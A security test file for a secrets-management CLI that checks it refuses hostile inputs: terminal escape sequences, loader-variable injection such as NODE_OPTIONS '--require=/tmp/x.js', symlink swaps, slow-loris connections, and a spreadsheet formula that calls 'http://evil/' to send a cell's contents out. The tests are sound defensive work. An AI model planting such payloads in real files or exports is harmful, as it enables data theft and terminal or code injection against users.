/**
 * Hardening against hostile input and environments (SECURITY.md, "Attacks refused"): import files
 * that could mean something other than they show or whose errors would quote them, terminal
 * controls in store- or file-derived text, secret names that set loader variables, output files
 * swapped under the writer, data directories that are not the user's, passphrase downgrades,
 * `kms serve` requests, spreadsheet formulas, glob patterns built to backtrack, and an
 * encryption-context key `__proto__`. In-process CLI runs against real SQLite and local KMS files.
 */
import { chmodSync, chownSync, closeSync, existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { request as httpsRequest } from 'node:https';
import { connect, type Socket } from 'node:net';
import { Sha256 } from '@aws-crypto/sha256-js';
import { DescribeKeyCommand, KMSClient } from '@aws-sdk/client-kms';
import { SignatureV4 } from '@smithy/signature-v4';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseContext } from '../../src/cli/arg-checks.js';
import { isLoopbackHost } from '../../src/cli/kms-serve.js';
import { expandWildcard, matchesGlob } from '../../src/core/secrets/wildcard.js';
import { globToRegExp } from '../helpers/glob-oracle.js';
import { LocalKms } from '../../src/localkms/local-kms.js';
import { startKmsServer, type KmsServer } from '../../src/kmsserver/server.js';
import { oneLine } from '../../src/format/one-line.js';
import { inProcessHome } from '../helpers/in-process.js';
import { rawDb } from '../helpers/sqlite.js';

const SECRET = 'Passw0rd-MARKER';

describe('YAML import refuses what could mean something other than it shows', () => {
  const h = inProcessHome();
  afterAll(h.cleanup);
  const yamlFile = (text: string): string => {
    const path = join(h.dir, 'in.yaml');
    writeFileSync(path, text);
    return path;
  };

  it.each([
    ['an unknown tag (value starting with !)', `db.pw: !${SECRET}\n`, /line 1 column 8: not valid YAML \(TAG_RESOLVE_FAILED\)/],
    ['an alias (value starting with *)', `db.pw: *${SECRET}\n`, /line 1 column 8: not valid YAML \(an alias/],
    ['an anchor', `a: &x ${SECRET}\nb: "1"\n`, /line 1 column \d+: not valid YAML \(an anchor\)/],
    ['a bad block scalar (value starting with |)', `db.pw: |${SECRET}\n`, /line 1 column \d+: not valid YAML \(UNEXPECTED_TOKEN\)/],
    ['a tag other than !!str', `db.pw: !!binary ${SECRET}\n`, /not valid YAML \(a tag other than !!str/],
    ['a second document', `a: "1"\n---\nb: ${SECRET}\n`, /line 2 column 1: not valid YAML \(MULTIPLE_DOCS\)/],
    ['a collection as a key', `? [${SECRET}]\n: "1"\n`, /not valid YAML \(a collection as a key\)/],
  ])('%s: exit 2, nothing stored, the value never on stderr', async (_label, text, message) => {
    for (const args of [['import', yamlFile(text)], ['--debug', 'import', yamlFile(text)]]) {
      const r = await h.run(args);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toContain(SECRET);
    }
    expect((await h.run(['keys'])).stdout).toBe('');
  });

  it('a plain file and an explicit !!str still import', async () => {
    const r = await h.run(['import', yamlFile(`db.pw: "${SECRET}"\nport: !!str 5432\n`)]);
    expect(r.stderr).toContain('added 2');
    expect(r.code).toBe(0);
    expect((await h.run(['get', 'port'])).stdout).toBe('5432\n');
  });

  it('a JSON error names a position only', async () => {
    const path = join(h.dir, 'in.json');
    writeFileSync(path, `{"a": "1",\n "db.pw": ${SECRET}}`);
    const r = await h.run(['import', path]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/(line 2: )?not valid JSON \((unexpected character|unexpected input at position \d+)\); nothing was imported/);
    expect(r.stderr).not.toContain(SECRET.slice(0, 4));
  });
});

describe('JSON import errors never quote the file', () => {
  // V8's JSON.parse messages quote the input around the bad token: a malformed import file must
  // not have its text (secret values) in the error, with or without --debug.
  const MARK = 'hunter2-SECRET-MARKER';
  const cli = inProcessHome();
  afterAll(cli.cleanup);

  it.each([
    ['unquoted value', `{"db.pw": ${MARK}}`],
    ['unquoted value after a good pair', `{"a": "1",\n "db.pw": ${MARK}x}`],
    ['a bare word', MARK],
  ])('import of JSON with %s: exit 2, no value on stderr (also with --debug)', async (_label, text) => {
    const file = join(cli.dir, 'bad.json');
    writeFileSync(file, text);
    for (const args of [['import', file], ['--debug', 'import', file], ['putall', `@${file}`]]) {
      const r = await cli.run(args);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/not valid JSON/);
      expect(r.stderr).not.toContain('hunter2');
    }
  });

  it('keeps position-only JSON messages (they quote nothing)', async () => {
    const file = join(cli.dir, 'cut.json');
    writeFileSync(file, '{"a": "1",');
    const r = await cli.run(['import', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not valid JSON \(.*position \d+.*\); nothing was imported/);
  });
});

describe('one escaping function for everything store- or file-derived that reaches a terminal', () => {
  it('escapes C0, DEL, C1 and bidi controls, and nothing else', () => {
    expect(oneLine('a\u001b[31mb\u007f\u009b2J\u202eevil\u2066\u2069\u200e\u200f\u061c\u2028\u2029\n')).toBe(
      'a\\u001b[31mb\\u007f\\u009b2J\\u202eevil\\u2066\\u2069\\u200e\\u200f\\u061c\\u2028\\u2029\\n',
    );
    expect(oneLine('café ☃ 𝄞 é')).toBe('café ☃ 𝄞 é');
  });

  const h = inProcessHome();
  afterAll(h.cleanup);
  const EVIL = 'evil\u001b]0;owned\u0007\u009b31m\u202etxt.exe';

  it('keys, list, verify, delete confirmations and error lines never carry raw controls', async () => {
    expect((await h.run(['put', 'plain.name', 'v1'], {})).code).toBe(0);
    // A row written by another tool: keystash itself refuses such a name.
    // keystash's own driver selection (node:sqlite where Node has it): better-sqlite3 is optional.
    const db = rawDb(join(h.home, 'store.db'));
    db.prepare('UPDATE secrets SET name = ? WHERE name = ?').run(EVIL, 'plain.name');
    db.close();
    const outputs = [
      await h.run(['keys']),
      await h.run(['list']),
      await h.run(['verify']),
      await h.run(['get', EVIL, '-v', '99']),
      await h.run(['delete', EVIL]),
    ];
    for (const r of outputs) {
      expect(`${r.stdout}${r.stderr}`).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
    }
    expect(outputs[0]?.stdout).toBe('evil\\u001b]0;owned\\u0007\\u009b31m\\u202etxt.exe\n');
    expect(outputs[3]?.code).toBe(3);
    expect(outputs[4]?.stderr).toContain('Deleting evil\\u001b]0;owned');
  });

  it("list escapes a row's created time; a bulk read's failure list stays one line whatever a name holds", async () => {
    expect((await h.run(['put', 'when.name', 'v1'])).code).toBe(0);
    expect((await h.run(['put', 'forged.name', 'v1'])).code).toBe(0);
    const db = rawDb(join(h.home, 'store.db'));
    db.prepare('UPDATE secrets SET created_at = ? WHERE name = ?').run('2026\u001b[2J\u001b]0;owned\u0007', 'when.name');
    // A name with a line break that reads like keystash's own verdict, and a broken hmac.
    db.prepare("UPDATE secrets SET name = ?, hmac = '00' WHERE name = ?").run('z\nkeystash: getall ok: 0 secrets could not be read', 'forged.name');
    db.close();
    const list = await h.run(['list']);
    expect(list.stdout).toContain('created 2026\\u001b[2J\\u001b]0;owned\\u0007');
    expect(list.stdout).not.toMatch(/[\u001b\u0007]/);
    for (const args of [['getall'], ['get', 'z*'], ['export', 'z*', '-f', 'json']]) {
      const r = await h.run(args);
      expect(r.code).not.toBe(0);
      expect(r.stderr.trimEnd().split('\n'), r.stderr).toHaveLength(1);
      expect(r.stderr).toContain('z\\nkeystash: getall ok');
    }
    expect((await h.run(['delete', 'when.name'])).code).toBe(0);
  });

  it('restore: a field of a backup file reaches stderr escaped', async () => {
    const backupFile = join(h.dir, 'b.jsonl');
    expect((await h.run(['backup', '-o', backupFile])).code).toBe(0);
    const lines = readFileSync(backupFile, 'utf8').split('\n');
    const header = JSON.parse(lines[0] ?? '{}') as Record<string, unknown>;
    header.version = '\u001b[2J\u202e';
    const body = [JSON.stringify(header), ...lines.slice(1, -2)].join('\n') + '\n';
    const trailer = JSON.stringify({ format: 'keystash-backup-end', sha256: createHash('sha256').update(body).digest('hex') });
    writeFileSync(backupFile, `${body}${trailer}\n`);
    const r = await h.run(['restore', backupFile]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unsupported backup version \\u001b[2J\\u202e');
    expect(r.stderr).not.toMatch(/[\u001b\u202e]/);
  });
});

describe('secret names cannot set variables that change how programs load or run', () => {
  const h = inProcessHome();
  afterAll(h.cleanup);
  const dump = join(h.dir, 'env.json');
  const child = ['--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(dump)}, JSON.stringify(process.env))`];
  const childEnv = (): Record<string, string> => JSON.parse(readFileSync(dump, 'utf8')) as Record<string, string>;

  it('exec through a glob, --all or an exact name: exit 2 naming the secret, no child started', async () => {
    for (const [name, varName] of [['app.node_options', 'NODE_OPTIONS'], ['app.path', 'PATH'], ['app.ld_preload', 'LD_PRELOAD'], ['app.aws_profile', 'AWS_PROFILE'], ['app.git_ssh_command', 'GIT_SSH_COMMAND']] as const) {
      expect((await h.run(['put', name, '-'], { input: '--require=/tmp/x.js' })).code).toBe(0);
      for (const selection of [['app.*'], ['--all'], [name], ['app.*', '--pristine']]) {
        const r = await h.run(['exec', ...selection, '--strip-prefix', 'app.', ...child]);
        expect(r.code).toBe(2);
        expect(r.stderr).toContain(`secret "${name}" would set ${varName}, which changes how programs load or run`);
        expect(existsSync(dump)).toBe(false);
      }
      expect((await h.run(['delete', name])).code).toBe(0);
    }
  });

  it('export to shell, dotenv and github-env (and getall -f dotenv) refuse the same names', async () => {
    expect((await h.run(['put', 'app.bash_env', 'evil'])).code).toBe(0);
    for (const format of ['shell', 'dotenv', 'github-env']) {
      const r = await h.run(['export', 'app.*', '--strip-prefix', 'app.', '-f', format]);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain('secret "app.bash_env" would set BASH_ENV');
    }
    const allowed = await h.run(['export', 'app.*', '--strip-prefix', 'app.', '-f', 'shell', '--allow-env', 'BASH_ENV']);
    expect(allowed.stdout).toBe("export BASH_ENV='evil'\n");
    expect((await h.run(['put', 'python_path', 'x'])).code).toBe(0);
    expect((await h.run(['getall', '-f', 'dotenv'])).stderr).toContain('would set PYTHON_PATH');
    expect((await h.run(['delete', 'python_path'])).code).toBe(0);
    expect((await h.run(['delete', 'app.bash_env'])).code).toBe(0);
  });

  it('an explicit --env mapping or --allow-env sets it; exec withholds the KMS key pair and, with --no-aws-env, AWS credentials', async () => {
    expect((await h.run(['put', 'app.path', '/opt/bin'])).code).toBe(0);
    expect((await h.run(['put', 'app.token', 't0k'])).code).toBe(0);
    const env = {
      KEYSTASH_KMS_PASSPHRASE: undefined,
      KEYSTASH_KMS_ACCESS_KEY_ID: 'AKIDKEYSTASH',
      KEYSTASH_KMS_SECRET_ACCESS_KEY: 'kms-secret-MARKER',
      AWS_ACCESS_KEY_ID: 'AKIDAWS',
      AWS_SECRET_ACCESS_KEY: 'aws-secret-MARKER',
      AWS_SESSION_TOKEN: 'aws-token-MARKER',
      // The AWS SDK for Java's alternate names.
      AWS_ACCESS_KEY: 'AKIDJAVA',
      AWS_SECRET_KEY: 'java-secret-MARKER',
      EC2_SECRET_KEY: 'ec2-secret-MARKER',
      AWS_BEARER_TOKEN_BEDROCK: 'bedrock-MARKER',
      AWS_REGION: 'eu-west-1',
    };
    let r = await h.run(['exec', 'app.token', '--env', 'PATH=app.path', '--strip-prefix', 'app.', ...child], { env });
    expect(r.code).toBe(0);
    let seen = childEnv();
    expect(seen.PATH).toBe('/opt/bin');
    expect(seen.TOKEN).toBe('t0k');
    expect(seen.KEYSTASH_KMS_ACCESS_KEY_ID).toBeUndefined();
    expect(seen.KEYSTASH_KMS_SECRET_ACCESS_KEY).toBeUndefined();
    expect(seen.AWS_SECRET_ACCESS_KEY).toBe('aws-secret-MARKER');
    rmSync(dump);
    r = await h.run(['exec', 'app.*', '--strip-prefix', 'app.', '--allow-env', 'PATH', '--no-aws-env', ...child], { env });
    expect(r.code).toBe(0);
    seen = childEnv();
    expect(seen.PATH).toBe('/opt/bin');
    for (const name of ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'AWS_ACCESS_KEY', 'AWS_SECRET_KEY', 'EC2_SECRET_KEY', 'AWS_BEARER_TOKEN_BEDROCK', 'KEYSTASH_KMS_SECRET_ACCESS_KEY']) expect(seen[name]).toBeUndefined();
    expect(seen.AWS_REGION).toBe('eu-west-1');
    rmSync(dump);
  });
});

describe('export -o and backup -o write a new private file and rename it over the target', () => {
  const h = inProcessHome();
  afterAll(h.cleanup);

  it('a reader holding the old file open never sees the secrets; the new file is 0600', async () => {
    expect((await h.run(['put', 'out.pw', SECRET])).code).toBe(0);
    const target = join(h.dir, 'out.env');
    writeFileSync(target, 'old\n', { mode: 0o644 });
    chmodSync(target, 0o644);
    const reader = openSync(target, 'r');
    try {
      const before = statSync(target).ino;
      const r = await h.run(['export', 'out.*', '-f', 'dotenv', '-o', target]);
      expect(r.code).toBe(0);
      expect(readFileSync(reader, 'utf8')).toBe('old\n');
      expect(statSync(target).mode & 0o777).toBe(0o600);
      expect(statSync(target).ino).not.toBe(before);
      expect(readFileSync(target, 'utf8')).toBe(`OUT_PW='${SECRET}'\n`);
      expect(readdirSync(h.dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    } finally {
      closeSync(reader);
    }
  });

  it('a symbolic link target is refused (exit 2) and the file it points to is untouched', async () => {
    const victim = join(h.dir, 'victim');
    writeFileSync(victim, 'keep\n');
    const link = join(h.dir, 'link.env');
    symlinkSync(victim, link);
    for (const args of [['export', 'out.*', '-f', 'dotenv', '-o', link], ['export', 'out.*', '-f', 'github-env', '-o', link], ['backup', '-o', link]]) {
      const r = await h.run(args);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('it is a symbolic link');
    }
    expect(readFileSync(victim, 'utf8')).toBe('keep\n');
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
  });

  it('the github-env append path refuses a file others can read, and appends to a private one', async () => {
    const githubEnv = join(h.dir, 'github_env');
    writeFileSync(githubEnv, 'A=1\n');
    chmodSync(githubEnv, 0o644);
    const refused = await h.run(['export', 'out.*', '-f', 'github-env', '-o', githubEnv]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`other users can access it (mode 0644); run: chmod 600 ${githubEnv}`);
    expect(readFileSync(githubEnv, 'utf8')).toBe('A=1\n');
    chmodSync(githubEnv, 0o600);
    expect((await h.run(['export', 'out.*', '-f', 'github-env', '-o', githubEnv])).code).toBe(0);
    expect(readFileSync(githubEnv, 'utf8')).toMatch(/^A=1\nOUT_PW<<ghadelimiter_/);
  });

  it.runIf(process.geteuid?.() === 0)('(as root) a target owned by another user is refused, for replace and append', async () => {
    const foreign = join(h.dir, 'foreign.env');
    writeFileSync(foreign, 'theirs\n', { mode: 0o600 });
    chownSync(foreign, 4242, 4242);
    for (const format of ['dotenv', 'github-env']) {
      const r = await h.run(['export', 'out.*', '-f', format, '-o', foreign]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('it belongs to another user (uid 4242)');
    }
    expect(readFileSync(foreign, 'utf8')).toBe('theirs\n');
  });
});

describe('the data directory, keyring and store must be the user\'s own', () => {
  const fresh = async () => {
    const h = inProcessHome();
    expect((await h.run(['put', 'own.pw', SECRET])).code).toBe(0);
    return h;
  };

  it.each([
    ['a data directory others can write', (home: string) => chmodSync(home, 0o777), /data directory .* is writable by other users \(mode 0777\); run: chmod go-w /],
    ['a group-writable store', (home: string) => chmodSync(join(home, 'store.db'), 0o620), /store .*store\.db is writable by other users \(mode 0620\); run: chmod go-w /],
    ['a store journal that is a symbolic link', (home: string) => symlinkSync('/tmp/elsewhere-wal', join(home, 'store.db-wal')), /store journal .* is a symbolic link/],
    ['a keyring that is a symbolic link', (home: string) => {
      renameSync(join(home, 'keyring.json'), join(home, 'real-keyring.json'));
      symlinkSync(join(home, 'real-keyring.json'), join(home, 'keyring.json'));
    }, /keyring .*keyring\.json is a symbolic link/],
  ])('%s: exit 9 with the fix, nothing read', async (_label, spoil, message) => {
    const h = await fresh();
    try {
      spoil(h.home);
      const r = await h.run(['get', 'own.pw']);
      expect(r.code).toBe(9);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(message);
    } finally {
      h.cleanup();
    }
  });

  it('a data directory below one others can write (no sticky bit), or reached through a link there: exit 9, nothing created', async () => {
    const h = inProcessHome();
    try {
      const open = join(h.dir, 'open');
      mkdirSync(open);
      chmodSync(open, 0o777);
      const inside = join(open, 'ks');
      const link = join(h.dir, 'ks-link');
      symlinkSync(inside, link);
      const below = await h.run(['put', 'own.pw', SECRET], { env: { KEYSTASH_HOME: inside } });
      expect(below.code).toBe(9);
      expect(below.stderr).toContain(`other users can write ${open} (mode 0777, not sticky)`);
      expect(below.stderr).toContain('choose a data directory of your own');
      const linked = await h.run(['put', 'own.pw', SECRET], { env: { KEYSTASH_HOME: link } });
      expect(linked.code).toBe(9);
      expect(readdirSync(open)).toEqual([]);
      // A level of your own below it does not help: the open level can be renamed away.
      mkdirSync(inside, { mode: 0o700 });
      const r = await h.run(['put', 'own.pw', SECRET], { env: { KEYSTASH_HOME: inside } });
      expect(r.code).toBe(9);
      expect(r.stderr).toContain(`other users can write ${open} (mode 0777, not sticky)`);
      expect(readdirSync(inside)).toEqual([]);
    } finally {
      h.cleanup();
    }
  });

  it.runIf(process.geteuid?.() === 0)('(as root) a keyring or store planted by another user: exit 9 naming the chown', async () => {
    for (const file of ['keyring.json', 'store.db']) {
      const h = await fresh();
      try {
        chownSync(join(h.home, file), 4242, 4242);
        const r = await h.run(['put', 'own.new', 'v']);
        expect(r.code).toBe(9);
        expect(r.stderr).toContain(`${join(h.home, file)} belongs to uid 4242, not to you (uid 0); if you trust its contents run: chown 0 `);
      } finally {
        h.cleanup();
      }
    }
  });
});

describe('KEYSTASH_KMS_PASSPHRASE with a plain keyring', () => {
  const h = inProcessHome();
  afterAll(h.cleanup);
  const withPass = { env: { KEYSTASH_KMS_PASSPHRASE: 'correct horse battery staple' } };

  it('is refused (exit 9) and the keyring is not rewritten; kms seal converts it, kms unseal back', async () => {
    expect((await h.run(['put', 'p.pw', SECRET])).code).toBe(0);
    const plain = readFileSync(join(h.home, 'keyring.json'), 'utf8');
    const refused = await h.run(['put', 'p.other', 'v'], withPass);
    expect(refused.code).toBe(9);
    expect(refused.stderr).toContain('is not sealed, but KEYSTASH_KMS_PASSPHRASE is set');
    expect(refused.stderr).toContain('keystash kms seal');
    expect(readFileSync(join(h.home, 'keyring.json'), 'utf8')).toBe(plain);

    expect((await h.run(['kms', 'seal'], withPass)).code).toBe(0);
    const sealed = JSON.parse(readFileSync(join(h.home, 'keyring.json'), 'utf8')) as { encrypted: { N: number } };
    expect(sealed.encrypted.N).toBe(2 ** 17);
    expect((await h.run(['get', 'p.pw'], withPass)).stdout).toBe(`${SECRET}\n`);
    expect((await h.run(['get', 'p.pw'])).code).toBe(9);
    expect((await h.run(['kms', 'seal'], withPass)).stderr).toContain('is sealed already');

    expect((await h.run(['kms', 'unseal'], withPass)).code).toBe(0);
    expect((await h.run(['get', 'p.pw'])).stdout).toBe(`${SECRET}\n`);
  });
});

describe('kms serve', () => {
  it('accepts only real loopback addresses without --allow-remote', () => {
    for (const host of ['127.0.0.1', '127.1.2.3', 'localhost', '::1', '0:0:0:0:0:0:0:1', '::ffff:127.0.0.1']) expect(isLoopbackHost(host), host).toBe(true);
    for (const host of ['127.0.0.256', '127.1', '0.0.0.0', '10.0.0.1', '::', '::2', 'localhost.example.com', '127.0.0.1.nip.io', '::ffff:10.0.0.1']) expect(isLoopbackHost(host), host).toBe(false);
  });

  const h = inProcessHome();
  afterAll(h.cleanup);

  it.each([
    [['--host', '127.0.0.256'], 'refusing to listen on 127.0.0.256'],
    [['--host', '0.0.0.0', '--allow-remote'], '--allow-remote needs --tls-cert and --tls-key'],
    [['--secret-access-key', 'hunter2'], 'the secret access key is never taken on the command line'],
  ])('kms serve %j: exit 2', async (args, message) => {
    const r = await h.run(['kms', 'serve', '--port', '0', ...args]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
    expect(r.stderr).not.toContain('hunter2');
  });

  describe('against a running server', () => {
    let server: KmsServer;
    let kms: LocalKms;
    const pair = { accessKeyId: 'AKIAHARDENING0000001', secretAccessKey: 'hardening-secret' };
    beforeAll(async () => {
      kms = LocalKms.open({ path: join(h.dir, 'served', 'keyring.json') });
      await kms.createKey({ alias: 'alias/served' });
      server = await startKmsServer({ kms, ...pair });
    });
    afterAll(async () => {
      await server.close();
      kms.close();
    });

    /** A request signed by the SDK's signer, leaving `unsigned` out of SignedHeaders. */
    async function signedRequest(target: string, body: object, unsigned: string[]): Promise<{ headers: Record<string, string>; body: string }> {
      const url = new URL(server.url);
      const text = JSON.stringify(body);
      const signer = new SignatureV4({ credentials: pair, region: 'us-east-1', service: 'kms', sha256: Sha256 });
      const signed = await signer.sign(
        { method: 'POST', protocol: 'http:', hostname: url.hostname, port: Number(url.port), path: '/', headers: { host: url.host, 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `TrentService.${target}` }, body: text },
        { unsignableHeaders: new Set(unsigned) },
      );
      return { headers: signed.headers as Record<string, string>, body: text };
    }

    it('a request whose X-Amz-Target (or Content-Type) was not signed is refused: no operation swapped under a signature', async () => {
      for (const unsigned of [['x-amz-target'], ['content-type']]) {
        const req = await signedRequest('DescribeKey', { KeyId: 'alias/served' }, unsigned);
        expect(req.headers['authorization']).not.toContain(unsigned[0]);
        const swapped = await fetch(server.url, { method: 'POST', headers: { ...req.headers, 'x-amz-target': 'TrentService.DisableKey' }, body: req.body });
        expect(swapped.status).toBe(400);
        expect(await swapped.json()).toMatchObject({ __type: 'InvalidSignatureException', message: `'${unsigned[0]}' must be a signed header.` });
      }
      expect((await kms.describeKey('alias/served')).enabled).toBe(true);
      const ok = await signedRequest('DescribeKey', { KeyId: 'alias/served' }, []);
      expect((await fetch(server.url, { method: 'POST', headers: ok.headers, body: ok.body })).status).toBe(200);
    });

    it('an unsigned x-amz-* header is refused', async () => {
      const req = await signedRequest('DescribeKey', { KeyId: 'alias/served' }, []);
      const r = await fetch(server.url, { method: 'POST', headers: { ...req.headers, 'x-amz-extra': '1' }, body: req.body });
      expect(await r.json()).toMatchObject({ __type: 'InvalidSignatureException', message: "'x-amz-extra' must be a signed header." });
    });

    it('errors never show the server\'s paths', async () => {
      const client = new KMSClient({ region: 'us-east-1', endpoint: server.url, credentials: pair, maxAttempts: 1 });
      try {
        const err = await client.send(new DescribeKeyCommand({ KeyId: 'alias/missing' })).catch((e: Error) => e);
        expect(err).toMatchObject({ name: 'NotFoundException' });
        expect((err as Error).message).toContain('not found in the local keyring (<keyring>)');
        expect((err as Error).message).not.toContain(h.dir);
      } finally {
        client.destroy();
      }
    });

    it('caps open connections', async () => {
      // Unauthenticated caps at the total: the total cap itself drops the third (the eviction of the
      // oldest unauthenticated connection below it: test/integration/kms-server-flood.test.ts).
      const capped = await startKmsServer({ kms, ...pair, maxConnections: 2, maxUnauthenticated: 2, maxUnauthenticatedPerAddress: 2 });
      const port = Number(new URL(capped.url).port);
      const open = (): Promise<Socket> => new Promise((resolve) => {
        const socket = connect(port, '127.0.0.1', () => resolve(socket));
      });
      const held = [await open(), await open()];
      const third = await open();
      const closed = await new Promise<boolean>((resolve) => {
        third.once('close', () => resolve(true));
        setTimeout(() => resolve(false), 2000);
      });
      for (const s of [...held, third]) s.destroy();
      await capped.close();
      expect(closed).toBe(true);
    });
  });

  it('closes a connection that sends nothing at all, within the request timeout', async () => {
    const kms = LocalKms.open({ path: join(h.dir, 'idle', 'keyring.json') });
    const server = await startKmsServer({ kms, accessKeyId: 'AKIAIDLE', secretAccessKey: 'idle-secret', headersTimeoutMs: 300, requestTimeoutMs: 600 });
    try {
      const socket = connect(Number(new URL(server.url).port), '127.0.0.1');
      socket.on('error', () => undefined);
      socket.resume();
      const ended = await new Promise<boolean>((resolve) => {
        socket.once('close', () => resolve(true));
        setTimeout(() => resolve(false), 5_000);
      });
      socket.destroy();
      expect(ended).toBe(true);
    } finally {
      await server.close();
      kms.close();
    }
  });

  it('closes a connection that sends its headers too slowly (slow loris)', async () => {
    const kms = LocalKms.open({ path: join(h.dir, 'slow', 'keyring.json') });
    const server = await startKmsServer({ kms, accessKeyId: 'AKIASLOW', secretAccessKey: 'slow-secret', headersTimeoutMs: 300 });
    try {
      const socket = connect(Number(new URL(server.url).port), '127.0.0.1');
      socket.on('error', () => undefined);
      socket.resume(); // read the 408, so the close is seen
      socket.write('POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n');
      const started = Date.now();
      const ended = await new Promise<boolean>((resolve) => {
        socket.once('close', () => resolve(true));
        setTimeout(() => resolve(false), 5_000);
      });
      socket.destroy();
      expect(ended).toBe(true);
      expect(Date.now() - started).toBeLessThan(5_000);
    } finally {
      await server.close();
      kms.close();
    }
  });

  it.skipIf(spawnSync('openssl', ['version']).status !== 0)('with --tls-cert/--tls-key serves HTTPS (needs openssl to make a certificate)', async () => {
    const dir = join(h.dir, 'tls');
    mkdirSync(dir);
    const made = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')]);
    expect(made.status, made.stderr?.toString()).toBe(0);
    const kms = LocalKms.open({ path: join(h.dir, 'tls-served', 'keyring.json') });
    const tls = { cert: readFileSync(join(dir, 'cert.pem'), 'utf8'), key: readFileSync(join(dir, 'key.pem'), 'utf8') };
    const server = await startKmsServer({ kms, accessKeyId: 'AKIATLS', secretAccessKey: 'tls-secret', tls });
    try {
      expect(server.url).toMatch(/^https:\/\/127\.0\.0\.1:\d+$/);
      const answer = await new Promise<string>((resolve, reject) => {
        httpsRequest(server.url, { method: 'POST', ca: tls.cert, checkServerIdentity: () => undefined }, (res) => {
          let text = '';
          res.on('data', (d: Buffer) => (text += d.toString()));
          res.on('end', () => resolve(text));
        }).on('error', reject).end();
      });
      expect(JSON.parse(answer)).toMatchObject({ __type: 'MissingAuthenticationTokenException' });
    } finally {
      await server.close();
      kms.close();
    }
  });
});

describe('export -f csv --csv-safe', () => {
  const h = inProcessHome();
  afterAll(h.cleanup);
  it('neutralises spreadsheet formulas; without the flag the value is verbatim', async () => {
    expect((await h.run(['put', 'sheet.cell', '=WEBSERVICE("http://evil/"&A1)'])).code).toBe(0);
    expect((await h.run(['export', 'sheet.*', '-f', 'csv', '--csv-safe'])).stdout).toBe(`sheet.cell,"'=WEBSERVICE(""http://evil/""&A1)"\n`);
    expect((await h.run(['getall', '-f', 'csv', '--csv-safe'])).stdout).toContain(`"'=WEBSERVICE(`);
    expect((await h.run(['export', 'sheet.*', '-f', 'csv'])).stdout).toBe(`sheet.cell,"=WEBSERVICE(""http://evil/""&A1)"\n`);
  });
});

describe('glob matching does not backtrack', () => {
  it('matches a many-star pattern against a long name in linear-ish time', () => {
    const name = 'a'.repeat(1000);
    const started = performance.now();
    expect(expandWildcard(`${'*a'.repeat(8)}*b`, [name])).toEqual([]);
    expect(expandWildcard(`${'*a'.repeat(8)}*`, [name])).toEqual([name]);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('agrees with the regular-expression reading of a glob', () => {
    const alphabet = ['a', 'b', '.', '*', '\n', '[', '\u00e9'];
    let seed = 7;
    const pick = (n: number): string => {
      let s = '';
      for (let i = 0; i < n; i++) {
        seed = (seed * 1103515245 + 12345) % 2 ** 31;
        s += alphabet[seed % alphabet.length];
      }
      return s;
    };
    for (let i = 0; i < 3000; i++) {
      const pattern = pick(i % 7);
      const name = pick(i % 9).replaceAll('*', '');
      expect(matchesGlob(pattern, name), `${JSON.stringify(pattern)} vs ${JSON.stringify(name)}`).toBe(globToRegExp(pattern).test(name));
    }
  });
});

describe("encryption context key '__proto__'", () => {
  // An object assignment would silently drop it, storing the secret without its context.
  const cli = inProcessHome();
  afterAll(cli.cleanup);

  it('is kept as an ordinary pair', () => {
    const context = parseContext(['__proto__=z', 'env=prod']);
    expect(Object.entries(context)).toEqual([['__proto__', 'z'], ['env', 'prod']]);
    expect(Object.getPrototypeOf(context)).toBe(Object.prototype);
  });

  it('binds the stored value: reading without it fails, with it succeeds', async () => {
    expect((await cli.run(['put', 'proto.ctx', 'v1', '__proto__=z'])).code).toBe(0);
    const without = await cli.run(['get', 'proto.ctx']);
    expect(without.code).toBe(6);
    expect(without.stdout).toBe('');
    const withIt = await cli.run(['get', 'proto.ctx', '__proto__=z']);
    expect(withIt.code).toBe(0);
    expect(withIt.stdout).toBe('v1\n');
  });
});
